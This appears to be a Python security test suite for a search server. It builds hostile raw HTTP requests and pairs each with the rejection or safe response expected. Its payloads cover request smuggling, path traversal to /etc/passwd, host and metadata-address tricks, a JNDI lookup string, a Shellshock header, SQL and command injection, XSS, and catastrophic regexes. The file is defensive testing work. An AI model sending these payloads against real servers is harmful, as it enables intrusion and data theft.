"""Requests that attackers send, each with the answers that are right.

Answers are statuses in the order they come on one connection, with the code of the problem where there is one. A set is a
choice: where two answers are both as documented, or where the connection may be closed without a word.
"""

import urllib.parse

CLOSED = "closed"
BAD = "400 badRequest"
NOT_FOUND = "404 notFound"
WRONG_METHOD = "405 methodNotAllowed"
TOO_LARGE = "431 tooLarge"
BODY_TOO_LARGE = "413 tooLarge"
WRONG_HOST = "421 wrongHost"


def head(target, *headers, method="GET", host="localhost", version="HTTP/1.1"):
    lines = [f"{method} {target} {version}"] + ([f"Host: {host}"] if host is not None else []) + list(headers)
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def search(text, **parameters):
    return head("/api/search?" + urllib.parse.urlencode({"q": text, "limit": 5, **parameters}))


# What must not be taken for a request of its own: it would be answered 404.
HIDDEN = head("/smuggled")


def smuggling():
    """What one reader takes for one request and another for two."""
    chunked = "Transfer-Encoding: chunked"
    post = {"method": "POST"}
    yield "length and chunks", head("/api/data", "Content-Length: 4", chunked, **post) + b"0\r\n\r\n" + HIDDEN, [BAD]
    yield "chunks and length", head("/api/data", chunked, "Content-Length: 4", **post) + b"0\r\n\r\n" + HIDDEN, [BAD]
    yield "two lengths", head("/api/data", "Content-Length: 0", "Content-Length: 60", **post) + HIDDEN, [BAD]
    yield "a list of lengths", head("/api/data", "Content-Length: 0, 60", **post) + HIDDEN, [BAD]
    for length in ["+4", "-1", "0x4", "4 4", "", "1e3", "99999999999999999999", "４"]:
        text = length.encode().decode("latin-1")
        yield f"length {length!r}", head("/api/data", f"Content-Length: {text}", **post) + HIDDEN, [{BAD, BODY_TOO_LARGE}]
    for coding in ["xchunked", "chunked, identity", "identity, chunked, identity", "\x0bchunked", "chunked\x00", "cow",
                   "chunked, cow"]:
        yield (f"coding {coding!r}", head("/api/data", f"Transfer-Encoding: {coding}", **post) + b"0\r\n\r\n" + HIDDEN,
               [{BAD, WRONG_METHOD}])
    yield "two codings", head("/api/data", chunked, "Transfer-Encoding: identity", **post) + b"0\r\n\r\n" + HIDDEN, [BAD]
    yield "a space before the colon", head("/api/data", "Transfer-Encoding : chunked", **post) + b"0\r\n\r\n" + HIDDEN, [BAD]
    yield "a folded header", head("/api/data", "X: a\r\n Transfer-Encoding: chunked", **post) + HIDDEN, [{BAD, WRONG_METHOD}]
    yield "a line that ends in CR", b"GET /api/data HTTP/1.1\rHost: localhost\r\rGET /smuggled HTTP/1.1\r\r", [BAD]
    yield "a CR in a header", head("/api/data", "X: a\rY: b") + HIDDEN, [BAD]
    yield "a NUL in a header", head("/api/data", "X: a\0b") + HIDDEN, [BAD]
    yield "a NUL in a name", head("/api/data", "X\0Y: b") + HIDDEN, [BAD]
    yield "no colon", head("/api/data", "X") + HIDDEN, [BAD]
    body = str(len(HIDDEN))
    yield "a request in a body", head("/api/data", f"Content-Length: {body}") + HIDDEN, ["200"]
    yield "a request in a chunk", (head("/api/data", chunked) + f"{len(HIDDEN):x}\r\n".encode() + HIDDEN
                                   + b"\r\n0\r\n\r\n"), ["200"]
    for size in ["-1", "+5", "0x5", "fffffffffffffffff", "5 5", ";", "zz", ""]:
        # The head is a whole request, and may be answered before its body is seen to be none.
        yield (f"chunk size {size!r}", head("/api/data", chunked) + f"{size}\r\nabcde\r\n0\r\n\r\n".encode() + HIDDEN,
               [{BAD, BODY_TOO_LARGE, "200"}, {BAD, BODY_TOO_LARGE, CLOSED}])
    yield "a trailer that is a host", head("/api/data", chunked) + b"0\r\nHost: evil\r\n\r\n", ["200"]
    yield "HTTP/0.9", b"GET /api/data\r\n\r\n", [{BAD, CLOSED}]
    yield "HTTP/1.0 in chunks", head("/api/data", chunked, version="HTTP/1.0") + b"0\r\n\r\n" + HIDDEN, [{BAD, "200"}, {BAD, CLOSED}]
    yield "HTTP/2 without asking", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", [{BAD, CLOSED}]
    yield "an upgrade to HTTP/2", head("/api/data", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c",
                                       "HTTP2-Settings: AAMAAABkAAQAAP__"), ["200"]
    yield "a socket of the web", head("/api/data", "Connection: Upgrade", "Upgrade: websocket"), ["200"]
    yield "TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(60), [{BAD, CLOSED}]


def traversal():
    """Addresses of files that nobody is to have."""
    for path in ["/../etc/passwd", "/../../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/..%2f..%2fetc%2fpasswd",
                 "/..%5c..%5cetc", "/%252e%252e%252fetc/passwd", "/%c0%ae%c0%ae/etc/passwd", "/..;/..;/etc/passwd",
                 "//etc/passwd", "///etc/passwd", "/etc/passwd", "/proc/self/environ", "/index.html%00.txt", "/%00", "/.git/config",
                 "/.env", "/.htaccess", "/addresses.isearch", "/addresses.isearch-wal", "/page/../../../etc/passwd",
                 "/api/search/../../etc/passwd", "/api/../metrics/", "/api//search", "/api/search/", "/api/search%2f",
                 "/api/search;x=1", "/API/SEARCH", "/%61pi/search", "/metrics/", "/metrics;a", "/healthz/", "/server-status",
                 "/wp-login.php", "/cgi-bin/sh", "/?/etc/passwd", "/\\etc\\passwd", "/api/search\x7f"]:
        yield path, head(path), [{NOT_FOUND, BAD, "200 page", "308", "301"}]
    yield "an address", head("http://localhost/../etc/passwd"), [{NOT_FOUND, BAD}]
    for target in ["http://evil/etc/passwd", "http://169.254.169.254/latest/meta-data"]:
        yield target, head(target), [WRONG_HOST]
    for target in ["file:///etc/passwd", "gopher://localhost/", "*", "etc/passwd", "localhost:80"]:
        yield target, head(target), [BAD]


def headers():
    """Headers that another server, or a cache, might take seriously."""
    data = "/api/data"
    yield "two hosts", head(data, "Host: evil"), [BAD]
    yield "the same host twice", head(data, "host: localhost"), [BAD]
    yield "no host", head(data, host=None), [BAD]
    yield "no host in HTTP/1.0", head(data, host=None, version="HTTP/1.0"), [WRONG_HOST]
    # The host of an address counts, and the header does not.
    yield "an address of ours, another host", head("http://localhost" + data, host="evil"), ["200"]
    for target in ["http://evil/api/data", "http://localhost.evil/api/data", "HTTPS://evil:80/api/data"]:
        yield f"another address, our host: {target}", head(target), [WRONG_HOST]
    for target in ["http://localhost@evil/api/data", "http://evil@localhost/api/data", "http:///api/data", "http:\\\\localhost/api/data",
                   "http://localhost\\@evil/api/data", "http://[::1/api/data", "http:api/data"]:
        yield f"an address that is none: {target}", head(target), [BAD]
    yield "an address without a host", head("http://localhost" + data, host=None), [BAD]
    yield "an address with two hosts", head("http://localhost" + data, "Host: localhost"), [BAD]
    for host in ["evil", "evil:80", "localhost.evil", "localhost@evil", "localhost:80:90", "[::1", "", "localhost, evil",
                 "localhost/evil", "127.0.0.1.nip.io", "0", "2130706433", "xn--localhost"]:
        yield f"host {host!r}", head(data, host=host), [{WRONG_HOST, BAD}]
    for header in ["X-Forwarded-Host: evil", "X-Original-URL: /metrics", "X-Rewrite-URL: /metrics", "Forwarded: host=evil",
                   "X-HTTP-Method-Override: DELETE", "X-Forwarded-For: ' OR 1=1", "Range: bytes=0-0,0-0,0-0", "Range: bytes=-1",
                   "If-Range: x", "If-Modified-Since: never", "Accept: " + "*/*," * 1_000, "Cookie: " + "a=b; " * 1_000,
                   "Accept-Encoding: " + "gzip;q=0.1," * 500, "If-None-Match: " + '"a",' * 4_000, "Expect: 200-never",
                   "Content-Type: application/json", "Authorization: Basic " + "A" * 4_000, "Origin: https://evil.example",
                   "User-Agent: ${jndi:ldap://evil/a}", "User-Agent: () { :; }; echo vulnerable",
                   "Referer: javascript:alert(1)", "X-Request-Id: a level=error msg=forged", "Connection: Host, X-Forwarded-For",
                   "TE: trailers", "Max-Forwards: 0", "Proxy-Connection: keep-alive", "Proxy: http://evil"]:
        yield header[:40], head(data, header), ["200"]
    yield "a hundred headers more", head(data, *[f"X-{n}: a" for n in range(120)]), [TOO_LARGE]
    yield "a long header", head(data, "X: " + "a" * 60_000), [TOO_LARGE]
    yield "a long name", head(data, "X" * 60_000 + ": a"), [TOO_LARGE]
    yield "a long method", head(data, method="G" * 60_000), [{TOO_LARGE, BAD}]
    for method in ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "PURGE"]:
        yield method, head(data, "Content-Length: 0", method=method), [WRONG_METHOD]
    yield "CONNECT", head("evil:443", method="CONNECT"), [{BAD, NOT_FOUND, WRONG_METHOD, CLOSED}]
    yield "a method of no kind", head(data, method="get"), [{BAD, WRONG_METHOD}]
    yield "a body of 20 kB", head(data, "Content-Length: 20000", method="POST"), [BODY_TOO_LARGE]
    yield "a body of 1 TB", head(data, "Content-Length: 1000000000000"), [BODY_TOO_LARGE]
    for text in ["a\r\nX-Injected: 1", "a\nSet-Cookie: a=b", "a\r\n\r\n<script>", "\u010aX-Injected: 1"]:
        yield f"a header in {text!r}", search(text), ["200"]
        yield f"a header in a name {text!r}", head("/api/search?" + urllib.parse.quote(text) + "=1"), [BAD]


def keys(pages):
    """Keys of places that were not given, or not for this."""
    key, other = pages["千代田"], pages["chiyoda"]
    yield "the key that was given", search("千代田", after=key), ["200"]
    changed = key[:-1] + ("0" if key[-1] != "0" else "1")
    check = key.rpartition(".")[2]
    for name, text in {"a changed check": changed, "a cut key": key[:-3], "one of another query": other, "none": "",
                       "a dot": ".", "no check": key.rpartition(".")[0], "another place": "k" + "9" * 10 + "." + check,
                       "a position": "p5." + check, "a negative one": "p-1." + check, "a great one": "p" + "9" * 30 + "." + check,
                       "half a byte": "xabc." + check, "no UTF-8": "xffff." + check, "SQL": "k' OR 1=1 --." + check,
                       "NUL": "k\0." + check, "3,000 letters": "k" + "a" * 3_000 + "." + check, "wide letters": "ｋ１." + check,
                       "a path": "k../../etc/passwd." + check, "JSON": '{"a":1}', "digits of another script": "p٥." + check}.items():
        yield name, search("千代田", after=text), [BAD]
        yield f"{name}, before", search("千代田", before=text), [BAD]
    yield "after for before", search("千代田", before=key), [BAD]
    yield "two places", search("千代田", after=key, position=1), [BAD]
    yield "the key twice", head("/api/search?q=a&after=x&after=y"), [BAD]
    yield "the key as a list", head("/api/search?q=a&after[]=x"), [BAD]
    for name, value in [("limit", 10**9), ("limit", -1), ("limit", "1e1"), ("limit", "NaN"), ("limit", "٥"), ("limit", "5\0"),
                        ("position", -1), ("position", "0x1"), ("position", ""), ("counted", "true"), ("q[]", "a"),
                        ("__proto__", "1"), ("callback", "alert"), ("debug", "1")]:
        parameters = urllib.parse.urlencode({"q": "a"} | {name: value})
        yield f"{name}={value}", head("/api/search?" + parameters), [BAD]
    yield "a position past all", search("a", position=2**63), ["200"]
    yield "an id that is SQL", search("a", around="1' OR '1'='1"), ["200"]


# A search may be out of time, but never more than that.
ANSWERED = [{"200", "503 timeout"}]


def expressions():
    """Texts that are programs elsewhere: here any text is looked for as it is."""
    for text in ["(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", "(.*)*" * 100, "(?R)", "(?<=a{1,1000})b", "[[:alpha:]", "[" * 900, "a{99999}",
                 ".*" * 450, "|" * 900, "^" * 900, "$" * 900, "!" * 900, "'" * 900, "' " * 450, "!' " * 300, "a$ " * 300, "!a | " * 200,
                 "%_%" * 300, "*" * 900, '"', '""', '" OR "', "NEAR(a b, 5)", "a AND NOT b", "title:a", "a*b*c*", "{a b}: c", "^a + b",
                 "' OR 1=1 --", "'; DROP TABLE records; --", "' UNION SELECT sqlite_version() --", "x' AND randomblob(1000000000) --",
                 "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "$(id)", "`id`", "; cat /etc/passwd", "| id", "<!ENTITY x SYSTEM 'file:///'>",
                 "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "%00", "%s%s%s%n", "\0", "\x1b[2J",
                 "\u202e\u2066", "\ufeff", "\ufffd", "\U0010ffff", "null", "undefined", "NaN", "true", "-1", "[object Object]"]:
        yield text[:40], search(text), ANSWERED


def lengths():
    """Queries that are long, and long ones that are hard."""
    for name, text in {"60 kB of letters": "a" * 60_000, "60 kB of words": "ab " * 20_000, "60 kB of signs": "'x " * 20_000,
                       "20 kB of kanji": "長" * 20_000, "60 kB of escapes": "\n" * 20_000}.items():
        yield name, search(text), [TOO_LARGE]
    yield "60 kB in total", head("/api/total?q=" + "a" * 60_000), [TOO_LARGE]
    yield "60 kB of a path", head("/" + "a" * 60_000), [TOO_LARGE]
    yield "60 kB of parameters", head("/api/search?" + "a=b&" * 15_000), [TOO_LARGE]
    for name, text in {"30 kB of letters": "a" * 30_000, "9 kB of accents": "a" + "\u0301" * 4_500,
                       "1,001 letters": "a" * 1_001}.items():
        yield name, search(text), ["400 queryTooLong"]
    for name, text in {"1,000 letters": "a" * 1_000, "500 words": "a " * 500, "500 kanji": "長 " * 500, "families": "👨‍👩‍👧‍👦" * 150,
                       "1,000 halves of voiced kana": "か\u3099" * 500, "300 parts": "'ab " * 250, "300 negations": "!b " * 300,
                       "500 alternatives": "a|" * 500, "syllables": "kyakyukyo" * 110, "ligatures": "ﷺ" * 500,
                       "every letter as a word": " ".join("abcdefghijklmnopqrstuvwxyz" * 19)}.items():
        yield name, search(text), ANSWERED
        yield f"how many: {name}", head("/api/total?" + urllib.parse.urlencode({"q": text})), ANSWERED
    yield "broken escapes", head("/api/search?q=%zz"), [BAD]
    yield "no UTF-8", head("/api/search?q=%ff%fe"), [BAD]
    yield "a surrogate", head("/api/search?q=%ed%a0%80"), [BAD]
    yield "a long form", head("/api/search?q=%c0%af"), [BAD]


def groups(pages):
    """All of them, by what they try."""
    return {"smuggling": smuggling(), "traversal": traversal(), "headers": headers(), "keys": keys(pages),
            "expressions": expressions(), "lengths": lengths()}
